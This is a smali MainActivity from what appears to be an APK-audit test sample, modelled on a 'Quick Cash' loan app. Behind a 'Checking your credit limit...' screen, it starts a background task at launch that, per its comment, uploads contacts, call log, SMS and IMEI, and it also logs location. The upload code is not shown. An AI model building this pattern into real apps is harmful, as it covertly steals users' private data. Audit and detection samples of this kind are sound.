.class public Lorg/apkaudit/sample/longurl/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

# "Quick Cash": as soon as the launcher activity is created it starts
# UploadTask on a new Thread, which bulk-reads contacts, call log, SMS inbox
# and the IMEI and uploads them. onResume() logs the last known GPS latitude.


# direct methods
.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    return-void
.end method


# virtual methods
.method protected onCreate(Landroid/os/Bundle;)V
    .registers 5

    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V

    new-instance v0, Landroid/widget/TextView;

    invoke-direct {v0, p0}, Landroid/widget/TextView;-><init>(Landroid/content/Context;)V

    const-string v1, "Checking your credit limit..."

    invoke-virtual {v0, v1}, Landroid/widget/TextView;->setText(Ljava/lang/CharSequence;)V

    invoke-virtual {p0, v0}, Lorg/apkaudit/sample/longurl/MainActivity;->setContentView(Landroid/view/View;)V

    # new Thread(new UploadTask(this)).start()
    new-instance v0, Ljava/lang/Thread;

    new-instance v1, Lorg/apkaudit/sample/longurl/UploadTask;

    invoke-direct {v1, p0}, Lorg/apkaudit/sample/longurl/UploadTask;-><init>(Landroid/content/Context;)V

    invoke-direct {v0, v1}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V

    invoke-virtual {v0}, Ljava/lang/Thread;->start()V

    return-void
.end method

.method protected onResume()V
    .registers 1

    invoke-super {p0}, Landroid/app/Activity;->onResume()V

    invoke-static {p0}, Lorg/apkaudit/sample/longurl/LocationHelper;->logLastKnownLocation(Landroid/content/Context;)V

    return-void
.end method
